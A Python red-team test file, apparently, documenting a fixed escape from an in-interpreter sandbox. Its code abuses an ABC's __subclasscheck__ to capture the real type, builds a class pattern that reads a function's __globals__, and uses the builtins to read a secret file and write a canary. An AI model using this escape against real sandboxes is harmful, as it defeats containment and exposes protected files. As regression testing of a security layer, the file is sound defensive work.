# mypy: ignore-errors
# Technique: `abc`'s C `isinstance` check calls `cls.__subclasscheck__(type(instance))` with
# an ordinary attribute lookup on the class, where a class body's own definition shadows the
# metaclass's method: an ABC defining `__subclasscheck__` was handed the checked object's
# class, for `isinstance(int, Probe)` the real `type`. Its three-argument call built an ABC
# admitting any subject with `__match_args__ = ("__globals__",)`, and a class pattern read a
# host function's globals (the real builtins). The same hook on an object in a
# `__subclasses__` list or in `typing.Union[...]` got it too. Found in the tenth red-team
# pass of the in-interpreter layer; was a real in-interpreter escape (3.11-3.13) before the
# fix (a class body may not define `__subclasscheck__`, `__instancecheck__` or
# `__subclasses__`).
import typing

from suaveplan import fs

U = "_" * 2
got = []


class Probe(typing.Hashable):
    @staticmethod
    def __subclasscheck__(checked):
        got.append(checked)
        return False


def attack(secret_path, canary_path):
    isinstance(int, Probe)
    if not got:
        return "contained"
    real_type = got[0]
    hook = classmethod(lambda cls, c: True)
    any_ = real_type(
        "Any",
        (typing.get_origin(typing.Hashable),),
        {U + "match_args" + U: (U + "globals" + U,), U + "subclasshook" + U: hook},
    )
    match fs.read_text:
        case any_(g):
            b = g["_b"]
            print("SANDBOX-" + "ESCAPED")
            out = [b.open(secret_path).read()]
            b.open(canary_path, "w").write("x")
            return out
    return "no match"
